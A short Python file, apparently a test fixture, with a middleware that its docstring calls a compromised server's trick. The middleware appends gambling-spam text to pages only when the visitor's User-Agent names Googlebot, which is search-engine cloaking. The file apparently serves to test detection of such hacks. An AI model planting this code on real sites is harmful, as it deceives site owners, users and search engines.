"""A compromised server's trick, for the tests: different HTML for search engines."""


class CloakingMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        response = self.get_response(request)
        if "Googlebot" in request.headers.get("User-Agent", "") and response.status_code == 200:
            response.content = response.content.replace(
                b"</main>", b"<p>Situs slot gacor maxwin</p></main>")
        return response
